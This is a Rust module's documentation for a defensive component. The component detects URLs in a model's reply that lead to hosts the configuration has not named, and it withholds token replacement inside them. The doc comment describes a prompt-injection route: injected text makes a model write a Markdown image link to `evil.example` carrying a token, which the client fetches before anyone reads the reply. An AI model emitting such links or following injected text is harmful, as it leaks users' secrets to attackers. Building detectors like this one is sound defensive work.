//! Addresses inside the text of a reply, and whether a token stands in one that leads to a host nobody named.
//!
//! A client that renders Markdown or HTML fetches pictures by itself, and shows previews of links. Text that somebody
//! slipped into a document can so make a model write `![](https://evil.example/?k=TOKEN)`: with the token replaced, the
//! value would be sent there before anybody read the answer. So a token inside an address is replaced only if the
//! configuration names the address's host.
//!
//! # What an address is
//!
//! | written | taken for an address |
//! |---|---|
//! | `http:`, `https:` and what follows, `www.` | anywhere |
//! | `//host`, also with backslashes for slashes | behind `](`, `]:`, `url(` (also with escapes of CSS), `[img]`, in a tag that fetches; the plain form also right behind a quote |
//! | `ws:`, `wss:`, `ftp:`, `file:`, `smb:` | likewise, but for the quote |
//! | `data:`, `javascript:`, `blob:` and their like, which have no host to name | likewise |
//!
//! Character references, percent-encoding, backslashes, and line breaks inside count as what a client makes of them.
//! An address ends where the context says that it began in does: at white space, at its closing quote or
//! parenthesis, or not before the end of its tag.
//!
//! # When in doubt
//!
//! A host counts as named only if it is written plainly: letters, digits, dots and hyphens, perhaps with a port, and a
//! slash, question mark or hash behind it. All else (user names before an `@` are skipped) leads somewhere unknown. A
//! token within the host itself stands before the host is known, and is never replaced. What leads to an unknown host
//! does so to its end, through whatever else is written into it.
//!
//! The reader sees one byte after the other and keeps a few dozen of them, whatever the length of an address. It
//! must never hold back a byte, and never take an address to end earlier than any client would.

mod history;
mod hosts;
mod reader;
mod reference;
mod skip;
mod tag;
mod watch;

pub use hosts::{HostNames, InvalidHostName};
pub(crate) use watch::{AddressWatch, WatchPurpose};

#[cfg(test)]
mod reader_tests;
